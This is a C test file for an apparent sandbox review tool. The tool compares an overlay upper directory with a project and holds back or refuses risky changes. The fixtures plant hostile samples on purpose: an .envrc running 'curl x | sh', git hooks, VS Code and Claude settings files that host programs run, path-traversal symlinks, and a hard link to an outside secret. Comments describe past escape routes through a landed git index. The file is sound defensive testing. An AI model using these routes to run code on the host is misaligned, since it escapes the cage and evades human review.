// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Review mode's reading of an upper directory against a project, on real
 * temp trees built by hand as overlayfs (or an attacker) leaves them:
 * whiteouts, opaque directories, type changes, links, modes, renames,
 * device nodes, hard links out; what is held back; the records' formats.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "common/path.h"
#include "protect/hostrun.h"
#include "review/changes.h"
#include "review/conflict.h"
#include "review/held.h"
#include "review/journal.h"
#include "review/run.h"
#include "review/store.h"
#include "review_fixture.h"

TestSuite(review, .init = setup, .fini = teardown);

static void link_at(const char *root, const char *rel, const char *target)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", root, rel);
	cr_assert_eq(symlink(target, path), 0, "%s", path);
}

/* A whiteout: a character device 0/0 (no privilege needed since 5.8). */
static void whiteout(const char *rel)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", up, rel);
	cr_assert_eq(mknod(path, S_IFCHR | 0, makedev(0, 0)), 0, "%s: %s", path,
		     strerror(errno));
}

static void opaque(const char *rel)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", up, rel);
	cr_assert_eq(setxattr(path, "user.overlay.opaque", "y", 1, 0), 0,
		     "%s: %s", path, strerror(errno));
}

static void mode(const char *root, const char *rel, mode_t m)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", root, rel);
	cr_assert_eq(chmod(path, m), 0);
}

static size_t pos(const char *path)
{
	for (size_t i = 0; i < ch.n; i++)
		if (!strcmp(ch.v[i].path, path))
			return i;
	cr_assert_fail("no change at %s", path);
	return 0;
}

static void expect(const char *path, enum ltd_change_kind kind)
{
	const struct ltd_change *c = get(path);

	cr_assert_not_null(c, "no change at %s", path);
	cr_assert_eq(c->kind, kind, "%s: kind %d, want %d", path, c->kind,
		     kind);
}

Test(review, added_changed_same_and_mode)
{
	put(pr, "same", "x\n");
	put(up, "same", "x\n"); /* a copy-up that changed nothing */
	put(pr, "edit", "old\n");
	put(up, "edit", "new\n");
	put(pr, "exec", "run\n");
	put(up, "exec", "run\n");
	mode(up, "exec", 0755);
	put(up, "new", "hello\n");
	read_changes();
	cr_assert_null(get("same"), "an unchanged copy is no change");
	expect("edit", LTD_CH_MODIFY);
	expect("exec", LTD_CH_MODE);
	expect("new", LTD_CH_ADD);
	cr_assert_eq(ch.n, 3);
}

Test(review, whiteouts_delete_and_only_what_is_there)
{
	put(pr, "gone", "x\n");
	whiteout("gone");
	whiteout("never-was");
	put(pr, "d", NULL);
	put(pr, "d/a", "a\n");
	whiteout("d2");
	put(pr, "d2", NULL);
	read_changes();
	expect("gone", LTD_CH_DELETE);
	cr_assert_null(get("never-was"));
	cr_assert_null(get("d"), "a directory not in the upper is no change");
	expect("d2", LTD_CH_DELETE);
}

Test(review, deleted_directory_lists_its_contents_first)
{
	put(pr, "tree", NULL);
	put(pr, "tree/sub", NULL);
	put(pr, "tree/sub/f", "f\n");
	put(pr, "tree/g", "g\n");
	whiteout("tree");
	read_changes();
	expect("tree", LTD_CH_DELETE);
	expect("tree/sub/f", LTD_CH_DELETE);
	expect("tree/sub", LTD_CH_DELETE);
	expect("tree/g", LTD_CH_DELETE);
	cr_assert_lt(pos("tree/sub/f"), pos("tree/sub"));
	cr_assert_lt(pos("tree/sub"), pos("tree"));
	cr_assert_lt(pos("tree/g"), pos("tree"));
}

Test(review, opaque_directory_hides_the_project_s)
{
	put(pr, "d", NULL);
	put(pr, "d/old", "o\n");
	put(pr, "d/kept", "k\n");
	put(pr, "d/sub", NULL);
	put(pr, "d/sub/deep", "x\n");
	put(up, "d", NULL);
	put(up, "d/kept", "k\n");
	put(up, "d/sub", NULL);
	opaque("d");
	read_changes();
	expect("d/old", LTD_CH_DELETE);
	cr_assert(get("d/old")->flags & LTD_CHF_IMPLICIT);
	cr_assert_null(get("d/kept"), "the same bytes: no change");
	/* Below an opaque directory the project's is hidden too. */
	expect("d/sub/deep", LTD_CH_DELETE);
}

Test(review, type_changes)
{
	/* A link replaced by a directory holding a file. */
	link_at(pr, "lnk", "/elsewhere");
	put(up, "lnk", NULL);
	put(up, "lnk/file", "in\n");
	/* A directory (with files) replaced by a file. */
	put(pr, "was-dir", NULL);
	put(pr, "was-dir/x", "x\n");
	put(up, "was-dir", "now a file\n");
	/* A file replaced by a link. */
	put(pr, "was-file", "f\n");
	link_at(up, "was-file", "target");
	read_changes();
	expect("lnk", LTD_CH_TYPE);
	cr_assert(S_ISDIR(get("lnk")->mode) && S_ISLNK(get("lnk")->old_mode));
	expect("lnk/file", LTD_CH_ADD);
	cr_assert_lt(pos("lnk"), pos("lnk/file"));
	expect("was-dir/x", LTD_CH_DELETE);
	expect("was-dir", LTD_CH_TYPE);
	cr_assert_lt(pos("was-dir/x"), pos("was-dir"));
	expect("was-file", LTD_CH_TYPE);
	cr_assert_str_eq(get("was-file")->target, "target");
}

Test(review, links_by_their_text)
{
	link_at(pr, "same", "t");
	link_at(up, "same", "t");
	link_at(pr, "moved", "a");
	link_at(up, "moved", "b");
	link_at(up, "climb", "../../../../etc/passwd");
	read_changes();
	cr_assert_null(get("same"));
	expect("moved", LTD_CH_MODIFY);
	cr_assert_str_eq(get("moved")->target, "b");
	cr_assert_str_eq(get("moved")->old_target, "a");
	expect("climb", LTD_CH_ADD);
	cr_assert_str_eq(get("climb")->target, "../../../../etc/passwd");
}

Test(review, a_project_link_is_never_entered)
{
	char outside[300];

	/* The project's "lnk" leads out; the upper holds lnk/ as a merged
	 * directory would look, with a whiteout inside: nothing out there
	 * is read or listed as deleted. */
	snprintf(outside, sizeof(outside), "%s/outside", dir);
	cr_assert_eq(mkdir(outside, 0755), 0);
	put(dir, "outside/victim", "v\n");
	link_at(pr, "lnk", outside);
	put(up, "lnk", NULL);
	whiteout("lnk/victim");
	read_changes();
	expect("lnk", LTD_CH_TYPE);
	cr_assert_null(get("lnk/victim"));
}

Test(review, renames_by_content)
{
	put(pr, "old-name", "the same content\n");
	whiteout("old-name");
	put(up, "new-name", "the same content\n");
	put(pr, "other", "different\n");
	whiteout("other");
	put(up, "elsewhere", "not the same\n");
	read_changes();
	expect("new-name", LTD_CH_ADD);
	cr_assert_not_null(get("new-name")->from);
	cr_assert_str_eq(get("new-name")->from, "old-name");
	cr_assert(get("old-name")->flags & LTD_CHF_RENAMED);
	cr_assert_null(get("elsewhere")->from);
	cr_assert_not(get("other")->flags & LTD_CHF_RENAMED);
}

Test(review, what_never_lands)
{
	char path[512], outside[300];

	put(up, "suid", "#!/bin/sh\n");
	mode(up, "suid", 04755);
	snprintf(path, sizeof(path), "%s/fifo", up);
	cr_assert_eq(mkfifo(path, 0644), 0);
	/* A hard link to a file out of the upper. */
	snprintf(outside, sizeof(outside), "%s/secret", dir);
	put(dir, "secret", "s3cret\n");
	snprintf(path, sizeof(path), "%s/leak", up);
	cr_assert_eq(link(outside, path), 0);
	/* Two names of one file, both in the upper: fine. */
	put(up, "one", "1\n");
	snprintf(path, sizeof(path), "%s/two", up);
	snprintf(outside, sizeof(outside), "%s/one", up);
	cr_assert_eq(link(outside, path), 0);
	if (geteuid() == 0) {
		snprintf(path, sizeof(path), "%s/null", up);
		cr_assert_eq(mknod(path, S_IFCHR | 0666, makedev(1, 3)), 0);
	}
	read_changes();
	cr_assert(get("suid")->flags & LTD_CHF_SUID);
	cr_assert_eq(ltd_change_land_mode(get("suid")->mode) & 07777, 0755);
	cr_assert(get("fifo")->flags & LTD_CHF_REFUSED);
	cr_assert(get("leak")->flags & LTD_CHF_REFUSED);
	cr_assert_not(get("one")->flags & LTD_CHF_REFUSED);
	cr_assert_not(get("two")->flags & LTD_CHF_REFUSED);
	if (geteuid() == 0)
		cr_assert(get("null")->flags & LTD_CHF_REFUSED);
}

Test(review, unreadable_upper_file_is_read_and_given_its_mode_back)
{
	char path[512];
	struct stat st;

	put(pr, "locked", "old\n");
	put(up, "locked", "new\n");
	mode(up, "locked", 0);
	read_changes();
	expect("locked", LTD_CH_MODIFY);
	snprintf(path, sizeof(path), "%s/locked", up);
	cr_assert_eq(stat(path, &st), 0);
	cr_assert_eq(st.st_mode & 07777, 0);
}

Test(review, foreign_xattrs_are_ignored)
{
	char path[512];

	put(up, "redir", NULL);
	put(up, "redir/f", "f\n");
	snprintf(path, sizeof(path), "%s/redir", up);
	setxattr(path, "user.overlay.redirect", "/etc", 4, 0);
	setxattr(path, "user.foo", "bar", 3, 0);
	read_changes();
	expect("redir", LTD_CH_ADD);
	expect("redir/f", LTD_CH_ADD);
	cr_assert_not(get("redir")->flags & LTD_CHF_OPAQUE);
}

static void hold(const char *const *protected, size_t n)
{
	struct ltd_err err = {0};

	cr_assert_eq(ltd_review_hold(&ch, pr, protected, n, upfd, prfd, &err),
		     0, "%s", err.msg);
}

Test(review, held_back)
{
	char prot[512];
	const char *protected[1] = {prot};

	snprintf(prot, sizeof(prot), "%s/.claude/settings.json", pr);
	put(pr, ".git", NULL);
	put(up, ".git", NULL);
	put(up, ".git/hooks", NULL);
	put(up, ".git/hooks/pre-commit", "#!/bin/sh\n");
	put(up, ".git/objects", NULL);
	put(up, ".git/objects/ab", NULL);
	put(up, ".git/objects/ab/cdef0123456789abcdef0123456789abcdef01", "x");
	put(up, ".claude", NULL);
	put(up, ".claude/settings.json", "{}");
	put(up, ".vscode", NULL);
	put(up, ".vscode/tasks.json", "{}");
	put(up, "sub", NULL);
	put(up, "sub/.git", NULL);
	put(up, "sub/.git/config", "[core]\n");
	put(up, "bare", NULL);
	put(up, "bare/HEAD", "ref: refs/heads/main\n");
	put(up, "bare/objects", NULL);
	put(up, "bare/refs", NULL);
	put(up, "bare/hooks", NULL);
	put(up, "bare/hooks/post-checkout", "#!/bin/sh\n");
	put(up, "plain.txt", "fine\n");
	read_changes();
	hold(protected, 1);
	/* Nothing of a .git lands, --include-protected or not: an index or
	 * a ref would carry files the diff never shows (the attacker's
	 * review: a landed index made the host's git checkout write a hook;
	 * a fast-forward commit held .vscode/tasks.json). */
	cr_assert(get(".git/hooks/pre-commit")->flags & LTD_CHF_REFUSED);
	cr_assert(get(".git/objects/ab/cdef0123456789abcdef0123456789abcdef01")
			  ->flags &
		  LTD_CHF_REFUSED);
	cr_assert(get(".git/hooks")->flags & LTD_CHF_REFUSED);
	cr_assert(get("sub/.git/config")->flags & LTD_CHF_REFUSED);
	cr_assert(get("sub/.git")->flags & LTD_CHF_REFUSED);
	cr_assert_not(get("sub")->flags & (LTD_CHF_REFUSED | LTD_CHF_HELD));
	cr_assert(get(".claude/settings.json")->flags & LTD_CHF_HELD);
	cr_assert(get(".vscode/tasks.json")->flags & LTD_CHF_HELD);
	/* Its reason is its program's, from the table's row. */
	cr_assert(
		strstr(get(".vscode/tasks.json")->why, "VS Code on the host") &&
			strstr(get(".vscode/tasks.json")->why, "folderOpen"),
		"%s", get(".vscode/tasks.json")->why);
	cr_assert_not(strstr(get(".vscode/tasks.json")->why, "Claude Code"));
	cr_assert(get("bare/hooks/post-checkout")->flags & LTD_CHF_HELD);
	cr_assert_not(get("plain.txt")->flags & LTD_CHF_HELD);
}

Test(review, a_dot_git_name_anywhere)
{
	cr_assert(ltd_review_in_dot_git(".git"));
	cr_assert(ltd_review_in_dot_git(".git/index"));
	cr_assert(ltd_review_in_dot_git("a/b/.git/hooks/x"));
	cr_assert_not(ltd_review_in_dot_git(".github/workflows/x.yml"));
	cr_assert_not(ltd_review_in_dot_git(".gitignore"));
	cr_assert_not(ltd_review_in_dot_git("a.git/b"));
	cr_assert_not(ltd_review_in_dot_git("a/x.git"));
}

/* The attacker's review: a link by a held directory's name (.claude ->
 * cl, a .vscode replaced by a link) and the host-run files below the top
 * were landed. */
Test(review, links_named_as_held_directories_and_deeper_files_are_held)
{
	char prot[512];
	const char *protected[1] = {prot};

	snprintf(prot, sizeof(prot), "%s/.claude/settings.json", pr);
	put(pr, ".vscode", NULL);
	put(up, "cl", NULL);
	put(up, "cl/settings.json", "{\"hooks\":{}}");
	link_at(up, ".claude", "cl");
	put(up, "v", NULL);
	put(up, "v/tasks.json", "{}");
	link_at(up, ".vscode", "v");
	put(up, "sub", NULL);
	put(up, "sub/.envrc", "curl x | sh\n");
	put(up, "sub/.vscode", NULL);
	put(up, "sub/.vscode/tasks.json", "{}");
	put(up, ".devcontainer.json", "{}");
	link_at(up, "node_modules-bin", "../x");
	read_changes();
	hold(protected, 1);
	cr_assert(get(".claude")->flags & LTD_CHF_HELD);
	cr_assert(get(".vscode")->flags & LTD_CHF_HELD);
	cr_assert(get("sub/.envrc")->flags & LTD_CHF_HELD);
	cr_assert(get("sub/.vscode/tasks.json")->flags & LTD_CHF_HELD);
	cr_assert(get(".devcontainer.json")->flags & LTD_CHF_HELD);
	cr_assert_not(get("node_modules-bin")->flags & LTD_CHF_HELD);
	cr_assert_not(get("cl/settings.json")->flags & LTD_CHF_HELD);
}

Test(review, deleting_a_directory_that_holds_a_held_path_is_held)
{
	char prot[512];
	const char *protected[1] = {prot};

	snprintf(prot, sizeof(prot), "%s/.claude/hooks", pr);
	put(pr, ".claude", NULL);
	put(pr, ".claude/hooks", NULL);
	put(pr, ".claude/hooks/h.sh", "x");
	put(pr, ".claude/notes", "n");
	whiteout(".claude");
	read_changes();
	hold(protected, 1);
	cr_assert(get(".claude/hooks/h.sh")->flags & LTD_CHF_HELD);
	cr_assert(get(".claude")->flags & LTD_CHF_HELD);
	cr_assert_not(get(".claude/notes")->flags & LTD_CHF_HELD);
}

/* The files other host programs run, the examples among them;
 * matched from the project's top only. */
Test(review, host_run_table)
{
	cr_assert(ltd_hostrun_match(".vscode/tasks.json"));
	cr_assert(ltd_hostrun_match(".gemini/settings.json"));
	cr_assert(ltd_hostrun_match(".cursor/mcp.json"));
	cr_assert(ltd_hostrun_match(".devcontainer/devcontainer.json"));
	cr_assert(ltd_hostrun_match("app.code-workspace"));
	cr_assert_not(ltd_hostrun_match(".vscode/tasks.jsonx"));
	cr_assert_not(ltd_hostrun_match("src/app.c"));
	cr_assert_not(ltd_hostrun_match(".gemini"));
}

Test(review, kernel_release)
{
	cr_assert(ltd_review_kernel_ok("6.18.44-fc-v1045"));
	cr_assert(ltd_review_kernel_ok("5.11.0"));
	cr_assert_not(ltd_review_kernel_ok("5.10.200-lts"));
	cr_assert_not(ltd_review_kernel_ok("4.19.0"));
	cr_assert_not(ltd_review_kernel_ok("garbage"));
}

Test(review, meta_round_trip)
{
	struct ltd_review_meta m = {.began = {1700000000, 123}, .runs = 2};
	struct ltd_review_meta back;
	struct ltd_err err = {0};
	char *text;

	snprintf(m.name, sizeof(m.name), "fix-1");
	snprintf(m.project, sizeof(m.project), "/home/u/proj");
	cr_assert_eq(ltd_review_applied_set(&m, "a/b", (struct timespec){5, 6}),
		     0);
	text = ltd_review_meta_format(&m);
	cr_assert_not_null(text);
	cr_assert_eq(ltd_review_meta_parse(text, &back, &err), 0, "%s",
		     err.msg);
	cr_assert_str_eq(back.name, "fix-1");
	cr_assert_str_eq(back.project, "/home/u/proj");
	cr_assert_eq(back.began.tv_nsec, 123);
	cr_assert_eq(ltd_review_applied_at(&back, "a/b")->tv_nsec, 6);
	free(text);
	ltd_review_meta_free(&m);
	ltd_review_meta_free(&back);
	cr_assert_neq(ltd_review_meta_parse("{\"name\":\"../x\",\"project\":"
					    "\"/p\",\"began\":[1,0]}",
					    &back, &err),
		      0, "a name that is no review's");
}

Test(review, journal_round_trip_and_refusals)
{
	struct ltd_journal j = {.landing = true}, back;
	struct ltd_err err = {0};
	char *text;

	snprintf(j.staging, sizeof(j.staging), ".ltd-native-apply.r.1");
	snprintf(j.project, sizeof(j.project), "/p");
	cr_assert_eq(ltd_journal_add_op(&j, LTD_LOP_PUT, "a\nb", 3, 0), 0);
	cr_assert_eq(ltd_journal_add_op(&j, LTD_LOP_CHMOD, "d", 0, 0755), 0);
	cr_assert_eq(ltd_journal_add_landed(&j, "a\nb"), 0);
	text = ltd_journal_format(&j);
	cr_assert_eq(ltd_journal_parse(text, &back, &err), 0, "%s", err.msg);
	cr_assert(back.landing);
	cr_assert_eq(back.n_ops, 2);
	cr_assert_str_eq(back.ops[0].path, "a\nb");
	cr_assert_eq(back.ops[1].mode, 0755);
	free(text);
	ltd_journal_free(&j);
	ltd_journal_free(&back);
	/* A staging directory elsewhere, an absolute path: refused. */
	cr_assert_neq(
		ltd_journal_parse("{\"state\":\"landing\",\"project\":\"/p\","
				  "\"staging\":\"../../x\",\"ops\":[],"
				  "\"landed\":[]}",
				  &back, &err),
		0);
	cr_assert_neq(
		ltd_journal_parse("{\"state\":\"landing\",\"project\":\"/p\","
				  "\"staging\":\".ltd-native-apply.r\",\"ops\":"
				  "[[\"remove\",\"/etc/passwd\",0,0]],"
				  "\"landed\":[]}",
				  &back, &err),
		0);
}

/* One count for the run's summary, `review` and `review NAME`: each line
 * `review NAME` shows is counted once, directories too (a review of an
 * empty directory alone is not "no changes"); a rename is one. */
Test(review, counts_add_up_to_the_lines_shown)
{
	struct ltd_change_counts n;
	unsigned shown = 0;

	put(pr, "gone", NULL);
	put(pr, "gone/f", "f\n");
	whiteout("gone");
	put(pr, "old", "same bytes\n");
	whiteout("old");
	put(up, "new", "same bytes\n");
	put(up, "empty", NULL);
	put(up, "a", NULL);
	put(up, "a/b", NULL);
	put(up, "a/b/c", "c\n");
	put(pr, "m", "m\n");
	put(up, "m", "m\n");
	mode(up, "m", 0700);
	link_at(up, "lnk", "t");
	read_changes();
	ltd_changes_count(&ch, &n);
	for (size_t i = 0; i < ch.n; i++)
		shown += ltd_change_shown(&ch.v[i]);
	cr_assert_eq(n.added + n.changed + n.deleted + n.renamed + n.modes +
			     n.types + n.links + n.dirs,
		     shown, "every line counted once");
	cr_assert_eq(n.renamed, 1, "a rename is one change, not two");
	cr_assert_eq(n.deleted, 1, "gone/f");
	cr_assert_eq(n.dirs, 4, "gone/, empty/, a/, a/b/");
	cr_assert_eq(n.added, 1);
	cr_assert_eq(n.modes, 1);
	cr_assert_eq(n.links, 1);
	cr_assert_str_eq(ltd_change_cat_name(ltd_change_category(get("empty"))),
			 "dir");
	cr_assert_str_eq(ltd_change_cat_name(ltd_change_category(get("new"))),
			 "renamed");
}

/* A change that never lands is no change apply offers: counted as
 * "never lands" alone, not as added or changed too. */
Test(review, what_never_lands_is_counted_apart)
{
	struct ltd_change_counts n;
	char path[512], *text = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);

	put(up, "new.txt", "n\n");
	snprintf(path, sizeof(path), "%s/fifo", up);
	cr_assert_eq(mkfifo(path, 0644), 0);
	read_changes();
	cr_assert(get("fifo")->flags & LTD_CHF_REFUSED);
	ltd_changes_count(&ch, &n);
	cr_assert_eq(n.added, 1, "new.txt alone");
	cr_assert_eq(n.refused, 1);
	ltd_counts_print(f, &n);
	fclose(f);
	cr_assert_str_eq(text, "1 added, 1 never lands");
	free(text);
}

Test(review, an_empty_directory_alone_is_a_change)
{
	struct ltd_change_counts n;
	char *text = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);

	put(up, "empty", NULL);
	read_changes();
	ltd_changes_count(&ch, &n);
	ltd_counts_print(f, &n);
	fclose(f);
	cr_assert_str_eq(text, "1 directory");
	free(text);
}

/* A rename that also changed the mode says so (it lands with it). */
Test(review, a_renames_mode_change_is_shown)
{
	mode_t was, now;

	put(pr, "old", "same bytes\n");
	whiteout("old");
	put(up, "new", "same bytes\n");
	mode(up, "new", 0755);
	mode(pr, "old", 0644);
	read_changes();
	cr_assert(ltd_change_mode_change(get("new"), &was, &now));
	cr_assert_eq(was & 07777, 0644);
	cr_assert_eq(now & 07777, 0755);
}

/* Conflicts are judged as apply judges them: a project copy whose ctime
 * is later than the review's start; nothing below a directory the review
 * makes; a rename conflicts when its deletion does. */
Test(review, conflicts_marked_by_ctime)
{
	struct ltd_review_meta m = {0};

	put(pr, "edit", "old\n");
	put(up, "edit", "new\n");
	put(pr, "ren-old", "same\n");
	whiteout("ren-old");
	put(up, "ren-new", "same\n");
	put(up, "made", "cage\n");
	put(pr, "made", "host, made since\n");
	put(up, "dir", NULL);
	put(up, "dir/f", "f\n");
	read_changes();
	m.began = (struct timespec){.tv_sec = 1L << 40};
	cr_assert_eq(ltd_review_mark_conflicts(&ch, prfd, &m), 0);
	cr_assert_not(get("edit")->flags & LTD_CHF_CONFLICT,
		      "not changed since a review that began later");
	cr_assert_not(get("made")->flags & LTD_CHF_CONFLICT);
	m.began = (struct timespec){0};
	cr_assert_eq(ltd_review_mark_conflicts(&ch, prfd, &m), 0);
	cr_assert(get("edit")->flags & LTD_CHF_CONFLICT);
	cr_assert_str_eq(get("edit")->conflict,
			 "changed in the project since the review began");
	cr_assert(get("ren-new")->flags & LTD_CHF_CONFLICT,
		  "its deletion conflicts");
	cr_assert(get("made")->flags & LTD_CHF_CONFLICT,
		  "the project's copy, read now, is newer than the review");
	cr_assert_not(get("dir/f")->flags & LTD_CHF_CONFLICT);
	cr_assert_eq(ltd_change_mark(get("edit")), 'C');
}

Test(review, change_json)
{
	json_t *o;

	put(up, ".vscode", NULL);
	put(up, ".vscode/tasks.json", "{}\n");
	read_changes();
	ch.v[pos(".vscode/tasks.json")].flags |= LTD_CHF_HELD;
	ch.v[pos(".vscode/tasks.json")].why = "a reason";
	o = ltd_change_json(get(".vscode/tasks.json"));
	cr_assert_not_null(o);
	cr_assert_str_eq(json_string_value(json_object_get(o, "path")),
			 ".vscode/tasks.json");
	cr_assert_str_eq(json_string_value(json_object_get(o, "kind")),
			 "added");
	cr_assert(json_is_true(json_object_get(o, "held")));
	cr_assert_str_eq(json_string_value(json_object_get(o, "reason")),
			 "a reason");
	cr_assert(json_is_false(json_object_get(o, "conflict")));
	json_decref(o);
}

/* The project path read back from a record or a journal is used to open
 * the project: refused unless absolute and normal. */
Test(review, records_with_a_project_path_not_normal_are_refused)
{
	static const char *const bad[] = {"/a/../b", "/a/./b",	 "//a",
					  "/a/",     "relative", "/"};
	struct ltd_review_meta m;
	struct ltd_journal j;
	struct ltd_err err = {0};
	char text[256];

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		snprintf(text, sizeof(text),
			 "{\"name\":\"r\",\"project\":\"%s\",\"began\":[1,0]}",
			 bad[i]);
		cr_assert_neq(ltd_review_meta_parse(text, &m, &err), 0, "%s",
			      bad[i]);
		snprintf(text, sizeof(text),
			 "{\"state\":\"landing\",\"project\":\"%s\","
			 "\"staging\":\".ltd-native-apply.r.1\",\"ops\":[],"
			 "\"landed\":[]}",
			 bad[i]);
		cr_assert_neq(ltd_journal_parse(text, &j, &err), 0, "%s",
			      bad[i]);
	}
	cr_assert_eq(ltd_review_meta_parse("{\"name\":\"r\",\"project\":"
					   "\"/home/u/p\",\"began\":[1,0]}",
					   &m, &err),
		     0, "%s", err.msg);
	ltd_review_meta_free(&m);
	cr_assert(ltd_path_is_normal("/"));
	cr_assert(ltd_path_is_normal("/a/b..c/.d"));
	cr_assert_not(ltd_path_is_normal("/a/.."));
}

/* apply's and diff's PATHs: as the changes name them; a rename is named
 * by either of its names. */
Test(review, paths_of_the_command_line)
{
	struct ltd_change r = {.path = "kept.txt", .from = "keep.txt"};
	char buf[64];

	cr_assert(ltd_change_path_arg("/p", "/p/a/b/", buf, sizeof(buf)));
	cr_assert_str_eq(buf, "a/b");
	cr_assert(ltd_change_path_arg("/p", "./x", buf, sizeof(buf)));
	cr_assert_str_eq(buf, "x");
	cr_assert(ltd_change_path_arg("/p", ".", buf, sizeof(buf)));
	cr_assert_str_eq(buf, "");
	cr_assert(ltd_change_path_arg("/p", "/p", buf, sizeof(buf)));
	cr_assert_str_eq(buf, "");
	cr_assert_not(ltd_change_path_arg("/p", "0123456789", buf, 8));
	cr_assert(ltd_change_named(&r, "kept.txt"));
	cr_assert(ltd_change_named(&r, "keep.txt"));
	cr_assert(ltd_change_named(&r, ""));
	cr_assert_not(ltd_change_named(&r, "kee"));
}
